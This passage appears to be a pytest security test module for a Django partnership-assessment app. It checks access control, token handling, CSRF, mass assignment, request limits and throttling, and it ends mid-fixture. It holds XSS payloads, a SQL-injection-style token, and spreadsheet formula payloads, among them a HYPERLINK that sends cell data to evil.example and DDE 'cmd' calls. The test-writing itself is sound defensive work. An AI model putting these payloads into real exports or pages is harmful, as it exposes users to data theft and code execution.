"""Attacks on Partnerscan, each with its asserted safe outcome (issue 7).

Another consultant's objects by id on every URL pattern; revoked, expired and random
invitation tokens; forged and extra POST fields (mass assignment); XSS payloads in
every free-text field shown back; formula payloads in exports; SSRF and file payloads
in the PDF; missing CSRF tokens; oversized bodies; throttles, also across processes.
"""

import csv
import io
import json
import os
import re
import secrets
import subprocess
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import date, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.core.cache import cache
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from assessments import throttle
from assessments.models import (
    Answer,
    Assessment,
    Collaboration,
    DimensionComment,
    Organisation,
    Partnership,
    Question,
    Respondent,
)
from assessments.questionsets import questionset_clone

from .conftest import (
    PASSWORD,
    answer_all,
    make_assessment,
    make_partnership,
    make_respondent,
)
from .html_forms import form_data, post_forms
from .shared_cache import TEST_REDIS_URL, redis_or_skip

ROOT = Path(__file__).resolve().parent.parent

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _fresh_throttles():
    # Throttle counters live in the cache; one test's attempts must not block the next.
    cache.clear()
    yield
    cache.clear()


def _login(client, user):
    assert client.login(username=user.username, password=PASSWORD)
    return client


def _as_participant(client, respondent):
    response = client.get(
        reverse("assessments:invitation", args=[respondent.raw_token])
    )
    assert response.status_code == 302, response.status_code
    return client


@pytest.fixture
def world(owner, outsider, partnership, assessment, respondent, question_set):
    """The owner's scan with answers and a comment; the outsider's own scan."""
    answer_all(respondent, value=3)
    dimension = question_set.dimensions.first()
    DimensionComment.objects.create(
        respondent=respondent, dimension=dimension, text="Owner's comment"
    )
    theirs = make_partnership(outsider, name="Gamma & Delta", organisations=("G", "D"))
    their_assessment = make_assessment(theirs, question_set)
    their_respondent = make_respondent(their_assessment, label="Otto")
    answer_all(their_respondent, value=5)
    return {
        "partnership": partnership,
        "assessment": assessment,
        "respondent": respondent,
        "collaboration": partnership.collaborations.get(),
        "their_partnership": theirs,
        "their_assessment": their_assessment,
        "their_respondent": their_respondent,
        "their_collaboration": Collaboration.objects.create(
            partnership=theirs, user=owner, can_edit=False
        ),
    }


def _fingerprint():
    """Everything an attack could change, as comparable plain values."""
    users = get_user_model().objects.order_by("pk")
    return {
        "users": list(
            users.values_list("pk", "username", "is_staff", "is_superuser", "email")
        ),
        "partnerships": list(
            Partnership.objects.order_by("pk").values_list(
                "pk", "name", "description", "owner_id", "archived_at"
            )
        ),
        "organisations": list(
            Organisation.objects.order_by("pk").values_list("pk", "name", "partnership")
        ),
        "collaborations": list(
            Collaboration.objects.order_by("pk").values_list(
                "pk", "partnership", "user", "can_edit"
            )
        ),
        "assessments": list(
            Assessment.objects.order_by("pk").values_list(
                "pk", "partnership", "title", "status", "question_set", "closes_on"
            )
        ),
        "respondents": list(
            Respondent.objects.order_by("pk").values_list(
                "pk",
                "assessment",
                "organisation",
                "label",
                "email",
                "token_hash",
                "submitted_at",
                "is_group",
            )
        ),
        "answers": list(
            Answer.objects.order_by("pk").values_list("respondent", "question", "value")
        ),
        "comments": list(
            DimensionComment.objects.order_by("pk").values_list(
                "respondent", "dimension", "text"
            )
        ),
    }


# Every URL pattern with an object id -------------------------------------------------


def _app_routes():
    """(route, name, kwarg names) of every pattern under the assessments namespace."""

    def walk(patterns, prefix, namespace):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                yield from walk(
                    pattern.url_patterns,
                    prefix + str(pattern.pattern),
                    pattern.namespace or namespace,
                )
            elif isinstance(pattern, URLPattern) and namespace == "assessments":
                route = prefix + str(pattern.pattern)
                yield route, pattern.name, re.findall(r"<(?:\w+:)?(\w+)>", route)

    return list(walk(get_resolver().url_patterns, "", None))


ID_KWARGS = {"pk", "respondent_pk", "collaboration_pk"}
ID_ROUTES = [
    (route, name, kwargs)
    for route, name, kwargs in _app_routes()
    if ID_KWARGS & set(kwargs)
]


def _kwargs_for(route, kwargs, objects, prefix=""):
    """URL kwargs naming `objects` (their keys optionally `their_`-prefixed)."""
    values = {}
    for kwarg in kwargs:
        if kwarg == "pk":
            kind = "partnership" if route.startswith("partnerships/") else "assessment"
            values[kwarg] = objects[prefix + kind].pk
        elif kwarg == "respondent_pk":
            values[kwarg] = objects[prefix + "respondent"].pk
        elif kwarg == "collaboration_pk":
            values[kwarg] = objects[prefix + "collaboration"].pk
        elif kwarg == "step":
            values[kwarg] = 1
        elif kwarg == "fmt":
            values[kwarg] = "csv"
        else:
            raise AssertionError(f"{route}: teach this test the kwarg {kwarg!r}")
    return values


def test_the_walk_finds_the_routes_with_object_ids():
    names = {name for _route, name, _kwargs in ID_ROUTES}
    assert {"partnership-detail", "assessment-detail", "respondent-edit"} <= names


# One test per attack walks every route (setting up the scan once, not 35 times); each
# assertion names the URL that failed.


def test_another_consultant_gets_404_for_every_url_with_an_id(client, world, outsider):
    _login(client, outsider)
    before = _fingerprint()
    for route, name, kwargs in ID_ROUTES:
        url = reverse(f"assessments:{name}", kwargs=_kwargs_for(route, kwargs, world))
        get = client.get(url)
        post = client.post(url, {"name": "pwned", "label": "pwned", "title": "pwned"})
        # 405 for a POST-only view's GET (or a GET-only view's POST) reveals nothing.
        assert get.status_code in (404, 405), (url, get.status_code)
        assert post.status_code in (404, 405), (url, post.status_code)
        assert (get.status_code, post.status_code) != (405, 405), url
        assert b"pwned" not in get.content + post.content, url
    assert _fingerprint() == before


def test_an_own_scan_does_not_open_anothers_respondent_or_collaborator(
    client, world, owner
):
    """Own assessment or partnership id, the other consultant's inner id: 404."""
    _login(client, owner)
    before = _fingerprint()
    nested = [r for r in ID_ROUTES if len(set(r[2]) & ID_KWARGS) > 1]
    assert nested
    for route, name, kwargs in nested:
        values = _kwargs_for(route, kwargs, world)
        inner = _kwargs_for(route, kwargs, world, prefix="their_")
        values.update({k: v for k, v in inner.items() if k != "pk"})
        url = reverse(f"assessments:{name}", kwargs=values)
        assert client.get(url).status_code in (404, 405), url
        assert client.post(url, {"can_edit": "on"}).status_code in (404, 405), url
    assert _fingerprint() == before


def test_a_participant_session_opens_no_consultant_url(client, world):
    _as_participant(client, world["respondent"])
    before = _fingerprint()
    for route, name, kwargs in ID_ROUTES:
        url = reverse(f"assessments:{name}", kwargs=_kwargs_for(route, kwargs, world))
        response = client.get(url)
        assert response.status_code in (302, 405), (url, response.status_code)
        if response.status_code == 302:
            assert response["Location"].startswith(reverse("login")), url
        assert client.post(url).status_code == 302, url
    assert _fingerprint() == before


# Invitation tokens -------------------------------------------------------------------


def _without_csrf(content):
    """The page minus what differs per request (CSRF token, the language switch's
    return address)."""
    content = re.sub(rb'name="csrfmiddlewaretoken" value="[^"]+"', b"", content)
    return re.sub(rb'name="next" type="hidden" value="[^"]*"', b"", content)


def test_revoked_expired_and_random_tokens_get_the_same_404_page(
    client, world, question_set
):
    assessment = world["assessment"]
    revoked = make_respondent(assessment, label="Revoked")
    revoked.revoke_token()
    revoked.save()
    closed = make_assessment(world["partnership"], question_set, status="closed")
    closed_respondent = make_respondent(closed, label="Closed")
    past = make_assessment(
        world["partnership"], question_set, closes_on=date.today() - timedelta(days=2)
    )
    past_respondent = make_respondent(past, label="Past")
    tokens = {
        "revoked": revoked.raw_token,
        "closed": closed_respondent.raw_token,
        "past closing date": past_respondent.raw_token,
        "random": secrets.token_hex(32),
        "garbage": "%27%20OR%201=1--" + "x" * 300,
    }
    pages = {}
    for kind, token in tokens.items():
        response = client.get(f"/i/{token}/")
        assert response.status_code == 404, kind
        assert SESSION_KEYS.isdisjoint(client.session.keys()), kind
        pages[kind] = _without_csrf(response.content)
    assert len(set(pages.values())) == 1, "the pages differ: they give a hint"


SESSION_KEYS = {"questionnaire_respondent", "questionnaire_token_hash"}


def test_a_revoked_link_ends_a_session_already_open(client, world):
    respondent = world["respondent"]
    _as_participant(client, respondent)
    assert client.get(reverse("assessments:questionnaire-review")).status_code == 200
    respondent.revoke_token()
    respondent.save()
    # Told so (410, "Deze link is ingetrokken"), and nothing is shown or saved.
    response = client.get(reverse("assessments:questionnaire-review"))
    assert response.status_code == 410
    assert "ingetrokken" in response.text
    response = client.post(
        reverse("assessments:questionnaire-save"),
        {f"q-{Question.objects.first().pk}": "1"},
    )
    assert response.status_code == 410
    assert not Answer.objects.filter(respondent=respondent, value=1).exists()


# Missing CSRF token ------------------------------------------------------------------


@pytest.fixture
def strict_client():
    return Client(enforce_csrf_checks=True)


def _assert_friendly_csrf_page(response):
    assert response.status_code == 403
    body = response.content.decode()
    assert "Dit formulier is verlopen" in body  # Dutch by default, our own page
    assert "CSRF verification failed" not in body


def test_login_without_csrf_token_gets_the_friendly_403(strict_client, owner):
    response = strict_client.post(
        reverse("login"), {"username": "owner", "password": PASSWORD}
    )
    _assert_friendly_csrf_page(response)
    assert "_auth_user_id" not in strict_client.session


def test_an_autosave_without_csrf_token_is_refused_and_saves_nothing(
    strict_client, world
):
    _as_participant(strict_client, world["respondent"])
    before = _fingerprint()
    question = Question.objects.first()
    response = strict_client.post(
        reverse("assessments:questionnaire-save"), {f"q-{question.pk}": "1"}
    )
    _assert_friendly_csrf_page(response)
    assert _fingerprint() == before


def test_a_consultant_form_without_csrf_token_is_refused(strict_client, world, owner):
    _login(strict_client, owner)
    before = _fingerprint()
    response = strict_client.post(
        reverse("assessments:partnership-edit", args=[world["partnership"].pk]),
        {"name": "Renamed"},
    )
    _assert_friendly_csrf_page(response)
    assert _fingerprint() == before


def test_a_csrf_failure_under_htmx_answers_with_a_short_message(strict_client, world):
    _as_participant(strict_client, world["respondent"])
    response = strict_client.post(
        reverse("assessments:questionnaire-save"),
        {"q-1": "1"},
        headers={"HX-Request": "true"},
    )
    assert response.status_code == 403
    assert b"<html" not in response.content
    assert b'role="alert"' in response.content


# Oversized bodies and too many fields ------------------------------------------------


def _assert_friendly_400(response):
    assert response.status_code == 400
    body = response.content.decode()
    assert "Er was iets mis met het verzoek" in body
    assert "Bad Request (400)" not in body


def _assert_friendly_413(response):
    # Refused before the body is read (tests/test_request_limits.py).
    assert response.status_code == 413
    assert "Wat je verstuurde is te groot" in response.content.decode()


def test_an_oversized_autosave_gets_a_friendly_413_and_saves_nothing(client, world):
    _as_participant(client, world["respondent"])
    dimension = world["assessment"].question_set.dimensions.first()
    before = _fingerprint()
    response = client.post(
        reverse("assessments:questionnaire-save"),
        {f"c-{dimension.pk}": "x" * (3 * 1024 * 1024)},
    )
    _assert_friendly_413(response)
    assert _fingerprint() == before


def test_too_many_fields_get_a_friendly_400(client, world):
    _as_participant(client, world["respondent"])
    before = _fingerprint()
    fields = {f"q-{n}": "1" for n in range(1200)}
    response = client.post(reverse("assessments:questionnaire-step", args=[1]), fields)
    _assert_friendly_400(response)
    assert "te veel velden" in response.content.decode()
    assert _fingerprint() == before


def test_an_oversized_consultant_form_gets_a_friendly_413(client, world, owner):
    _login(client, owner)
    before = _fingerprint()
    response = client.post(
        reverse("assessments:partnership-create"),
        {"name": "Big", "description": "x" * (3 * 1024 * 1024)},
    )
    _assert_friendly_413(response)
    assert _fingerprint() == before


def test_an_oversized_upload_is_refused_with_a_message(client, world, owner):
    _login(client, owner)
    before = _fingerprint()
    upload = io.BytesIO(b"respondent,organisation,dimension,question,value\n" * 200_000)
    upload.name = "answers.csv"
    response = client.post(
        reverse("assessments:assessment-import", args=[world["assessment"].pk]),
        {"file": upload},
    )
    _assert_friendly_413(response)
    assert b"6 MB" in response.content
    assert _fingerprint() == before


# Throttles ---------------------------------------------------------------------------


def test_failed_logins_are_throttled_with_429_and_retry_after(client, owner):
    limit, window = throttle.LIMITS["login"]
    for _ in range(limit):
        response = client.post(reverse("login"), {"username": "owner", "password": "x"})
        assert response.status_code == 200
    response = client.post(reverse("login"), {"username": "owner", "password": "x"})
    assert response.status_code == 429
    assert response["Retry-After"] == str(window)
    assert "Te veel pogingen" in response.content.decode()
    # Even the right password waits until the window has passed.
    response = client.post(
        reverse("login"), {"username": "owner", "password": PASSWORD}
    )
    assert response.status_code == 429


@pytest.mark.django_db(transaction=True)
def test_parallel_password_guesses_cannot_all_slip_past_the_login_throttle(owner):
    limit, _window = throttle.LIMITS["login"]
    guesses = limit * 2
    start = threading.Barrier(guesses)

    def guess(_):
        start.wait()
        try:
            response = Client().post(
                reverse("login"), {"username": "owner", "password": "x"}
            )
            return response.status_code
        finally:
            connection.close()

    with ThreadPoolExecutor(guesses) as pool:
        statuses = list(pool.map(guess, range(guesses)))
    # At most `limit` passwords were checked; every other guess was turned away.
    assert statuses.count(200) == limit
    assert statuses.count(429) == guesses - limit


def test_token_guessing_is_throttled_with_429_and_retry_after(client, world):
    limit, window = throttle.LIMITS["token"]
    for _ in range(limit):
        assert client.get(f"/i/{secrets.token_hex(32)}/").status_code == 404
    response = client.get(f"/i/{secrets.token_hex(32)}/")
    assert response.status_code == 429
    assert response["Retry-After"] == str(window)
    # A real link waits too: guessing must not be able to continue past the limit.
    assert client.get(f"/i/{world['respondent'].raw_token}/").status_code == 429


def test_pdf_downloads_are_throttled_with_429_and_retry_after(
    client, world, owner, monkeypatch
):
    monkeypatch.setitem(throttle.LIMITS, "report", (2, 60))
    _login(client, owner)
    url = reverse("assessments:assessment-report", args=[world["assessment"].pk])
    # A render can take seconds on a busy machine; a run that straddles the
    # throttle's fixed 60 s window starts counting afresh, so it is repeated once.
    for _attempt in range(2):
        cache.clear()
        window = time.time() // 60
        statuses = [client.get(url).status_code for _ in range(3)]
        if time.time() // 60 == window:
            break
    assert statuses == [200, 200, 429]
    response = client.get(url)
    assert response.status_code == 429
    assert response["Retry-After"] == "60"


def test_throttles_count_each_client_address_behind_a_proxy(client, settings):
    settings.PROXY_COUNT = 1
    limit, _window = throttle.LIMITS["token"]
    for _ in range(limit + 1):
        client.get(
            f"/i/{secrets.token_hex(32)}/",
            REMOTE_ADDR="10.0.0.1",
            HTTP_X_FORWARDED_FOR="192.0.2.1, 198.51.100.7",
        )
    blocked = client.get(
        f"/i/{secrets.token_hex(32)}/",
        REMOTE_ADDR="10.0.0.1",
        HTTP_X_FORWARDED_FOR="198.51.100.7",
    )
    assert blocked.status_code == 429
    # Another client behind the same proxy is not blocked, and a forged left-most
    # entry does not let the blocked client pass as someone else.
    other = client.get(
        f"/i/{secrets.token_hex(32)}/",
        REMOTE_ADDR="10.0.0.1",
        HTTP_X_FORWARDED_FOR="203.0.113.9",
    )
    assert other.status_code == 404
    forged = client.get(
        f"/i/{secrets.token_hex(32)}/",
        REMOTE_ADDR="10.0.0.1",
        HTTP_X_FORWARDED_FOR="203.0.113.9, 198.51.100.7",
    )
    assert forged.status_code == 429


def _subprocess_env(**extra):
    """Environment for a second process on this test's database."""
    db = connection.settings_dict
    env = {k: v for k, v in os.environ.items() if k not in {"REDIS_URL"}}
    env["DJANGO_SETTINGS_MODULE"] = "partnerscan.settings"
    if connection.vendor == "sqlite":
        env.pop("DATABASE_URL", None)
        env["SQLITE_PATH"] = str(db["NAME"])
    else:
        env["DATABASE_URL"] = (
            f"postgres://{db['USER']}@{db['HOST'] or '127.0.0.1'}:"
            f"{db['PORT'] or 5432}/{db['NAME']}"
        )
    env.update(extra)
    return env


def _failed_logins_in_a_new_process(username, count, env):
    result = subprocess.run(
        [sys.executable, "-m", "tests.throttle_probe", username, str(count)],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    return json.loads(result.stdout.strip().splitlines()[-1])


@pytest.fixture
def shared_cache_env(request, transactional_db):
    if request.param == "redis":
        url = redis_or_skip()
        yield {"REDIS_URL": url, "CACHE_KEY_PREFIX": f"test-{secrets.token_hex(4)}"}
    else:
        # The table production's settings name (this process caches in memory).
        call_command("createcachetable", "partnerscan_cache", verbosity=0)
        yield {"CACHE_BACKEND": "database"}


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("shared_cache_env", ["redis", "database"], indirect=True)
def test_the_login_throttle_holds_across_two_processes(shared_cache_env):
    limit, window = throttle.LIMITS["login"]
    env = _subprocess_env(**shared_cache_env)
    # Counters are per fixed window: a run that straddles a window boundary starts
    # counting afresh halfway, so it is repeated once (it cannot straddle twice).
    for attempt in range(2):
        started = time.time() // window
        victim = f"victim-{attempt}-{secrets.token_hex(4)}"
        first = _failed_logins_in_a_new_process(victim, limit - 4, env)
        second = _failed_logins_in_a_new_process(victim, 5, env)
        if time.time() // window == started:
            break
    assert first == [200] * (limit - 4)
    assert second == [200, 200, 200, 200, 429]


def test_the_redis_url_setting_selects_the_shared_redis_cache():
    redis_or_skip()
    code = (
        "import django;from django.conf import settings;django.setup();"
        "print(settings.CACHES['default']['BACKEND'])"
    )
    result = subprocess.run(
        [sys.executable, "-c", code],
        cwd=ROOT,
        env=_subprocess_env(REDIS_URL=TEST_REDIS_URL),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.stdout.strip() == "django.core.cache.backends.redis.RedisCache"


# Mass assignment: forged and extra POST fields ---------------------------------------


# Fields no form of ours has, posted with values that would hand an attacker something.
def _forged(world, outsider):
    theirs = world["their_partnership"]
    return {
        "owner": outsider.pk,
        "user": outsider.pk,
        "partnership": theirs.pk,
        "assessment": world["their_assessment"].pk,
        "respondent": world["their_respondent"].pk,
        "previous": world["their_assessment"].pk,
        "submitted_at": "2001-01-01 00:00",
        "started_at": "2001-01-01 00:00",
        "closed_at": "2001-01-01 00:00",
        "archived_at": "2001-01-01 00:00",
        "status": "closed",
        "is_staff": "on",
        "is_superuser": "on",
        "is_active": "",
        "is_group": "on",
        "token_hash": "0" * 64,
        "token_seed": "0" * 32,
        "username": "hijacked",
        "password": "hijacked-password",
        "id": "999",
        "pk": "999",
    }


def _their_world(world):
    """The outsider's objects and every account's rights: no form may touch them."""
    fingerprint = _fingerprint()
    theirs = world["their_partnership"].pk
    their_assessment = world["their_assessment"].pk
    return {
        "users": fingerprint["users"],
        "partnerships": [p for p in fingerprint["partnerships"] if p[0] == theirs],
        "assessments": [a for a in fingerprint["assessments"] if a[1] == theirs],
        "respondents": [
            r for r in fingerprint["respondents"] if r[1] == their_assessment
        ],
        "answers": list(
            Answer.objects.filter(respondent__assessment=their_assessment)
            .order_by("pk")
            .values_list("respondent", "question", "value")
        ),
    }


def _post_page_form(client, url, **fields):
    """Fetch the page, fill its form as a browser would, post it with `fields`."""
    page = client.get(url)
    assert page.status_code == 200, (url, page.status_code)
    forms = [f for f in post_forms(page.content.decode()) if f["action"] in ("", url)]
    assert forms, f"{url} has no form posting to itself"
    return client.post(url, form_data(forms[0], **fields))


def _assert_done(response):
    assert response.status_code in (200, 302), response.status_code
    if response.status_code == 200:
        assert b"is-invalid" not in response.content, "the form refused the post"


@pytest.fixture
def forger(client, world, owner, outsider):
    _login(client, owner)
    return client, _forged(world, outsider)


def test_creating_a_partnership_ignores_forged_fields(forger, world, owner):
    client, forged = forger
    before = _their_world(world)
    response = _post_page_form(
        client,
        reverse("assessments:partnership-create"),
        **forged,
        **{"name": "Forged & Co", "organisations-0-name": "One"},
        **{"organisations-1-name": "Two"},
    )
    _assert_done(response)
    created = Partnership.objects.get(name="Forged & Co")
    assert created.owner == owner
    assert created.archived_at is None
    assert sorted(created.organisations.values_list("name", flat=True)) == [
        "One",
        "Two",
    ]
    assert _their_world(world) == before


def test_editing_a_partnership_ignores_forged_fields(forger, world, owner):
    client, forged = forger
    partnership = world["partnership"]
    before = _their_world(world)
    response = _post_page_form(
        client,
        reverse("assessments:partnership-edit", args=[partnership.pk]),
        **forged,
        name="Renamed",
    )
    _assert_done(response)
    partnership.refresh_from_db()
    assert (partnership.name, partnership.owner, partnership.archived_at) == (
        "Renamed",
        owner,
        None,
    )
    assert _their_world(world) == before


def test_creating_a_scan_ignores_forged_fields(forger, world):
    client, forged = forger
    partnership = world["partnership"]
    before = _their_world(world)
    response = _post_page_form(
        client,
        reverse("assessments:assessment-create", args=[partnership.pk]),
        **forged,
        title="Forged scan",
    )
    _assert_done(response)
    created = Assessment.objects.get(title="Forged scan")
    assert created.partnership == partnership
    assert created.status == Assessment.Status.OPEN
    assert created.previous_id in (None, world["assessment"].pk)
    assert created.closed_at is None
    assert _their_world(world) == before


def test_editing_a_scan_ignores_forged_fields(forger, world):
    client, forged = forger
    assessment = world["assessment"]
    question_set = assessment.question_set_id
    before = _their_world(world)
    response = _post_page_form(
        client,
        reverse("assessments:assessment-edit", args=[assessment.pk]),
        **forged,
        question_set="999",
        title="Edited",
    )
    _assert_done(response)
    assessment.refresh_from_db()
    assert assessment.title == "Edited"
    assert assessment.partnership == world["partnership"]
    assert assessment.status == Assessment.Status.OPEN
    assert assessment.question_set_id == question_set
    assert _their_world(world) == before


def _assert_plain_new_respondent(respondent, assessment):
    assert respondent.assessment == assessment
    assert respondent.organisation.partnership == assessment.partnership
    assert respondent.submitted_at is None and respondent.started_at is None
    assert not respondent.is_group
    assert respondent.token_hash != "0" * 64


def test_adding_a_respondent_ignores_forged_fields(forger, world):
    client, forged = forger
    assessment = world["assessment"]
    before = _their_world(world)
    response = _post_page_form(
        client,
        reverse("assessments:respondent-add", args=[assessment.pk]),
        **forged,
        label="Forged respondent",
        organisation=str(world["partnership"].organisations.first().pk),
    )
    _assert_done(response)
    _assert_plain_new_respondent(
        Respondent.objects.get(label="Forged respondent"), assessment
    )
    assert _their_world(world) == before


def test_a_respondent_cannot_be_put_in_another_partnerships_organisation(forger, world):
    client, _forged_fields = forger
    assessment = world["assessment"]
    foreign = world["their_partnership"].organisations.first()
    before = _fingerprint()
    response = _post_page_form(
        client,
        reverse("assessments:respondent-add", args=[assessment.pk]),
        label="Smuggled",
        organisation=str(foreign.pk),
    )
    assert response.status_code in (200, 400)
    assert _fingerprint() == before


def test_editing_a_respondent_ignores_forged_fields(forger, world):
    client, forged = forger
    assessment, respondent = world["assessment"], world["respondent"]
    token_hash = respondent.token_hash
    before = _their_world(world)
    response = _post_page_form(
        client,
        reverse("assessments:respondent-edit", args=[assessment.pk, respondent.pk]),
        **forged,
        label="Anna B.",
    )
    _assert_done(response)
    respondent.refresh_from_db()
    assert respondent.label == "Anna B."
    assert respondent.token_hash == token_hash
    assert respondent.submitted_at is None and not respondent.is_group
    assert respondent.assessment == assessment
    assert _their_world(world) == before


def test_pasting_respondents_ignores_forged_fields(forger, world):
    client, forged = forger
    assessment = world["assessment"]
    before = _their_world(world)
    response = _post_page_form(
        client,
        reverse("assessments:respondent-paste", args=[assessment.pk]),
        **forged,
        rows="Pasted One;;Alfa;nl\nPasted Two;;Beta;en",
    )
    _assert_done(response)
    for label in ("Pasted One", "Pasted Two"):
        _assert_plain_new_respondent(Respondent.objects.get(label=label), assessment)
    assert _their_world(world) == before


def test_adding_a_collaborator_ignores_forged_fields(forger, world, outsider):
    client, forged = forger
    partnership = world["partnership"]
    before = _their_world(world)
    forged.pop("user")
    response = _post_page_form(
        client,
        reverse("assessments:collaborator-add", args=[partnership.pk]),
        **forged,
        user=outsider.username,
    )
    _assert_done(response)
    added = Collaboration.objects.get(partnership=partnership, user=outsider)
    assert not added.can_edit or "can_edit" in response.request.get("QUERY_STRING", "")
    assert _their_world(world)["partnerships"] == before["partnerships"]
    assert not get_user_model().objects.filter(is_staff=True).exists()


def test_the_account_form_cannot_grant_rights_or_rename_the_login(forger, owner):
    client, forged = forger
    response = _post_page_form(
        client,
        reverse("assessments:account"),
        **forged,
        first_name="Olga",
        email="olga@example.org",
    )
    _assert_done(response)
    owner.refresh_from_db()
    assert owner.first_name == "Olga"
    assert (owner.username, owner.is_staff, owner.is_superuser, owner.is_active) == (
        "owner",
        False,
        False,
        True,
    )
    assert owner.check_password(PASSWORD)


def _participant_forgery(world, question):
    their = world["their_respondent"]
    return {
        "respondent": their.pk,
        "assessment": world["their_assessment"].pk,
        "submitted_at": "2001-01-01 00:00",
        "is_group": "on",
        "status": "closed",
        # The workshop's per-respondent prefix, aimed at someone else's answers.
        f"r{their.pk}-q-{question.pk}": "1",
    }


@pytest.mark.parametrize("view", ["questionnaire-save", "questionnaire-step"])
def test_a_participants_post_changes_only_their_own_answers(client, world, view):
    respondent = world["respondent"]
    _as_participant(client, respondent)
    question = Question.objects.filter(
        dimension__question_set=respondent.assessment.question_set
    ).order_by("dimension__position", "position")[0]
    before = _their_world(world)
    args = [1] if view == "questionnaire-step" else []
    response = client.post(
        reverse(f"assessments:{view}", args=args),
        {f"q-{question.pk}": "1", **_participant_forgery(world, question)},
    )
    assert response.status_code in (200, 302)
    assert Answer.objects.get(respondent=respondent, question=question).value == 1
    respondent.refresh_from_db()
    assert respondent.submitted_at is None and not respondent.is_group
    assert respondent.assessment == world["assessment"]
    assert Assessment.objects.get(pk=world["assessment"].pk).status == "open"
    assert _their_world(world) == before


def test_a_participant_cannot_answer_a_question_outside_their_scan(
    client, world, question_set
):
    respondent = world["respondent"]
    _as_participant(client, respondent)
    other_set = questionset_clone(question_set=question_set)
    foreign = Question.objects.filter(dimension__question_set=other_set).first()
    before = _fingerprint()
    response = client.post(
        reverse("assessments:questionnaire-save"), {f"q-{foreign.pk}": "2"}
    )
    assert response.status_code == 400
    assert _fingerprint() == before


def test_a_workshop_post_cannot_reach_a_respondent_outside_its_groups(
    client, world, owner
):
    _login(client, owner)
    assessment = world["assessment"]
    assert (
        client.post(
            reverse("assessments:workshop-start", args=[assessment.pk])
        ).status_code
        == 302
    )
    question = Question.objects.filter(
        dimension__question_set=assessment.question_set
    ).first()
    before = _fingerprint()
    for target in (world["respondent"], world["their_respondent"]):
        response = client.post(
            reverse("assessments:workshop-save", args=[assessment.pk]),
            {f"r{target.pk}-q-{question.pk}": "1"},
        )
        assert response.status_code == 400
    assert _fingerprint() == before


# XSS: every free-text field shown back -----------------------------------------------


def _payload(field):
    return f'<script>alert("{field}")</script><img src=x onerror=alert(1)>'


@pytest.fixture
def hostile(world, owner, collaborator, question_set):
    """Payloads in every free-text field a consultant or participant can fill in."""
    partnership = world["partnership"]
    partnership.name = _payload("partnership")
    partnership.description = _payload("description")
    partnership.save()
    for number, organisation in enumerate(partnership.organisations.all()):
        organisation.name = _payload(f"organisation{number}")
        organisation.save()
    assessment = world["assessment"]
    assessment.title = _payload("title")
    assessment.save()
    respondent = world["respondent"]
    respondent.label = _payload("label")
    respondent.save()
    DimensionComment.objects.filter(respondent=respondent).update(
        text=_payload("comment")
    )
    owner.first_name = _payload("consultant")
    owner.save()
    collaborator.first_name = _payload("collaborator")
    collaborator.save()
    return world


FIELDS = [
    "partnership",
    "description",
    "organisation0",
    "organisation1",
    "title",
    "label",
    "comment",
    "consultant",
    "collaborator",
]


def _assert_escaped(response, url):
    assert response.status_code == 200, (url, response.status_code)
    body = response.content.decode()
    for field in FIELDS:
        assert _payload(field) not in body, (url, field)
    assert "<script>alert(" not in body, url
    assert "onerror=alert" not in body.replace("onerror=alert(1)&gt;", ""), url
    return body


def test_consultant_pages_show_every_payload_escaped(client, hostile, owner):
    _login(client, owner)
    assessment, partnership = hostile["assessment"], hostile["partnership"]
    respondent = hostile["respondent"]
    urls = [
        reverse("assessments:dashboard"),
        reverse("assessments:dashboard") + "?q=%3Cscript%3Ealert(%22q%22)%3C/script%3E",
        reverse("assessments:partnership-detail", args=[partnership.pk]),
        reverse("assessments:partnership-edit", args=[partnership.pk]),
        reverse("assessments:assessment-detail", args=[assessment.pk]),
        reverse("assessments:assessment-edit", args=[assessment.pk]),
        reverse("assessments:assessment-results", args=[assessment.pk]),
        reverse("assessments:respondent-edit", args=[assessment.pk, respondent.pk]),
        reverse("assessments:respondent-add", args=[assessment.pk]),
        reverse("assessments:account"),
    ]
    shown = ""
    for url in urls:
        shown += _assert_escaped(client.get(url), url)
    # The payloads are shown, as text.
    for field in ("partnership", "organisation0", "title", "label", "comment"):
        assert f"&lt;script&gt;alert(&quot;{field}&quot;)" in shown, field
    assert '<script>alert("q")' not in shown


def test_workshop_pages_show_every_payload_escaped(client, hostile, owner):
    _login(client, owner)
    assessment = hostile["assessment"]
    client.post(reverse("assessments:workshop-start", args=[assessment.pk]))
    for url in (
        reverse("assessments:workshop-step", args=[assessment.pk, 1]),
        reverse("assessments:workshop-review", args=[assessment.pk]),
    ):
        _assert_escaped(client.get(url), url)


def test_participant_pages_show_every_payload_escaped(client, hostile):
    _as_participant(client, hostile["respondent"])
    shown = ""
    for url in (
        reverse("assessments:questionnaire-welcome"),
        reverse("assessments:questionnaire-step", args=[1]),
        reverse("assessments:questionnaire-review"),
    ):
        shown += _assert_escaped(client.get(url), url)
    assert "&lt;script&gt;alert(&quot;comment&quot;)" in shown


def test_a_comment_payload_saved_through_the_autosave_comes_back_escaped(client, world):
    respondent = world["respondent"]
    _as_participant(client, respondent)
    dimension = respondent.assessment.question_set.dimensions.order_by(
        "position"
    ).first()
    response = client.post(
        reverse("assessments:questionnaire-save"),
        {f"c-{dimension.pk}": _payload("typed")},
    )
    assert response.status_code == 200
    assert "<script>" not in response.content.decode()
    step = client.get(reverse("assessments:questionnaire-step", args=[1]))
    assert _payload("typed") not in step.content.decode()
    assert "&lt;script&gt;alert(&quot;typed&quot;)" in step.content.decode()


# Formula payloads in exports ---------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def formulas(world):
    assessment = world["assessment"]
    organisations = list(world["partnership"].organisations.all())
    organisations[0].name = FORMULAS[0]
    organisations[0].save()
    organisations[1].name = FORMULAS[1]
    organisations[1].save()
    for number, formula in enumerate(FORMULAS):
